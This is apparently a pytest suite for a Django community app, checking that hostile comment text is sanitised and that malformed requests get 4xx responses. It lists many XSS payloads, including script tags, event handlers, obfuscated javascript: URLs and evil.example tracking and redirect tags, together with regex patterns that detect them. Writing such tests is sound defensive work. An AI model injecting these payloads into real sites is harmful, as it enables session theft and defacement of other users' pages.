"""Hostile and malformed input to comments, reactions and mentions: neutralised or refused
with a 4xx, never stored as markup, never a 500."""

import re

import pytest

from community.models import Comment, Reaction
from tests.community.discussion import HTMX, knowledge_page
from tests.community.factories import CommentFactory

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="#" onclick="steal()">click</a>',
    '<div onmouseover="alert(1)">hover</div>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "[vb](VBScript:msgbox(1))",
    "<https://ok.example/> and <javascript:alert(1)>",
    "![](http://evil.example/track.png)",
    '![x](javascript:alert(1) "t")',
    '<img src="http://evil.example/track.png">',
    '<iframe src="http://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>unclosed <i>tags <a href='javascript:x'",
    '<form action="http://evil.example"><input name=password></form>',
    '<object data="http://evil.example/x.swf"></object><embed src="x">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '[x](http://example.com" onmouseover="alert(1))',
    '[x](https://example.com "title" onclick="alert(1)")',
    "<<script>script>alert(1)<</script>/script>",
    "`<script>alert(1)</script>` and ```\n<img src=x onerror=alert(1)>\n```",
    '@<script>alert(1)</script> @"onmouseover=alert(1)',
    "\x00<scr\x00ipt>alert(1)</script>",
    "\u202e right-to-left override and emoji \U0001f389 and \U0001d566\U0001d55f\U0001d55a",
]

DANGEROUS = [
    re.compile(r"<\s*(script|img|iframe|style|svg|math|object|embed|form|input|meta|link)\b", re.I),
    re.compile(r"<[^>]*\son\w+\s*=", re.I),  # an event handler attribute on a real tag
    # A script URL in a real tag's attribute (in text, `&lt;a href=...` is inert).
    re.compile(r"""<[^>]*\s(href|src|action)\s*=\s*["']?\s*(javascript|data|vbscript):""", re.I),
]


def _dangerous(html: str, patterns=DANGEROUS) -> list[str]:
    return [pattern.pattern for pattern in patterns if pattern.search(html)]


def _bodies(html: str) -> str:
    """The comments' own HTML in a response (each body is a div without nested divs)."""
    return "".join(re.findall(r'data-testid="comment-body">(.*?)</div>', html, flags=re.DOTALL))


@pytest.fixture
def page(home):
    return knowledge_page(home)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_comments_are_neutralised_when_stored_and_shown(
    employee_client, page, settings, text
):
    settings.HEARTH_POSTS_PER_MINUTE = 1000
    response = employee_client.post(f"/community/pages/{page.pk}/comments/", {"text": text})
    assert response.status_code == 302, response.content
    comment = Comment.objects.get()
    assert _dangerous(comment.body_html) == []
    for link in re.findall(r"<a [^>]*>", comment.body_html):
        assert 'rel="nofollow noopener"' in link
    html = employee_client.get(page.url).content.decode()
    assert _dangerous(_bodies(html)) == []
    # Nothing in the whole discussion (our own forms included) carries a handler or a
    # script URL.
    assert _dangerous(html.split('data-testid="discussion"')[1], DANGEROUS[1:]) == []
    # The htmx fragment is as clean as the page.
    fragment = employee_client.post(
        f"/community/pages/{page.pk}/comments/", {"text": text, "parent": comment.pk}, **HTMX
    ).content.decode()
    assert _dangerous(_bodies(fragment)) == [] and _bodies(fragment)
    assert _dangerous(fragment, DANGEROUS[1:]) == []


def test_hostile_text_in_an_edit_is_neutralised_too(employee_client, employee, page):
    comment = CommentFactory(page=page, author=employee)
    for text in HOSTILE[:8]:
        employee_client.post(f"/community/comments/{comment.pk}/edit/", {"text": text})
    comment.refresh_from_db()
    for html in [comment.body_html, *comment.edits.values_list("body_html", flat=True)]:
        assert _dangerous(html) == []


def test_refused_text_is_given_back_escaped(employee_client, page):
    response = employee_client.post(
        f"/community/pages/{page.pk}/comments/",
        {"text": "<script>alert(1)</script>" * 1000},
    )
    html = response.content.decode()
    assert response.status_code == 400
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)</script>" not in html


@pytest.mark.parametrize(
    ("method", "path", "data"),
    [
        ("get", "/community/pages/{page}/comments/", {}),
        ("get", "/community/comments/{comment}/edit/", {}),
        ("get", "/community/comments/{comment}/delete/", {}),
        ("get", "/community/pages/{page}/reactions/", {}),
        ("post", "/community/comments/{comment}/", {}),
        ("post", "/community/pages/{page}/comments/", {"text": ["a", "b"], "parent": ["1", "x"]}),
        ("post", "/community/pages/{page}/comments/", {"parent": "-1", "text": "x"}),
        ("post", "/community/pages/{page}/comments/", {"parent": "1e5", "text": "x"}),
        ("post", "/community/pages/{page}/comments/", {"parent": "٣", "text": "x"}),
        ("post", "/community/pages/{page}/comments/", {"parent": "9" * 40, "text": "x"}),
        ("post", "/community/pages/99999999999999999999/comments/", {"text": "x"}),
        ("post", "/community/pages/{page}/reactions/", {"reaction": "like:on", "comment": "0"}),
        ("post", "/community/pages/{page}/reactions/", {"reaction": ":on"}),
        ("post", "/community/pages/{page}/reactions/", {"reaction": "like:on:on"}),
        ("post", "/community/pages/{page}/reactions/", {"reaction": "\x00:on"}),
        ("get", "/community/pages/{page}/reactions/people/", {"kind": "\x00", "page": "-1"}),
        ("get", "/community/pages/{page}/reactions/people/", {"page": "abc"}),
        ("get", "/community/pages/{page}/people/", {"q": "\x00%"}),
        ("get", "/community/comments/00000000000000000000000000000001/", {}),
    ],
)
def test_malformed_requests_are_4xx_never_500(employee_client, page, method, path, data):
    comment = CommentFactory(page=page)
    url = path.format(page=page.pk, comment=comment.pk)
    response = getattr(employee_client, method)(url, data)
    assert 200 <= response.status_code < 500, (url, response.status_code)
    assert Comment.objects.count() <= 2
    assert Reaction.objects.count() <= 1


def test_a_page_that_takes_no_comments_is_404(employee_client, home):
    from tests.factories import KnowledgeIndexPageFactory

    index = KnowledgeIndexPageFactory(parent=home)
    if getattr(index.specific_class, "has_discussion", False):
        pytest.skip("the knowledge index takes comments")
    response = employee_client.post(f"/community/pages/{index.pk}/comments/", {"text": "x"})
    assert response.status_code == 404
    assert employee_client.post(f"/community/pages/{index.pk}/reactions/", {}).status_code == 404
